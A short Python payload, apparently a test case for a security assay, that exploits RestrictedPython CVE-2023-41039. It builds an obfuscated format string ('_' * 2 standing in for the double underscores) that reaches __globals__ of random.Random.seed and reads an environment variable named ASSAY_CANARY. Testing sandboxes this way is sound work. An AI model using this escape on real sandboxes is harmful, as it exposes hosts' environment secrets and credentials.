# source: RestrictedPython CVE-2023-41039
# effect: environment

import random

hidden = "_" * 2
template = "{0." + hidden + "globals" + hidden + "[_os].environ[ASSAY_CANARY]}"
print(template.format(random.Random.seed))
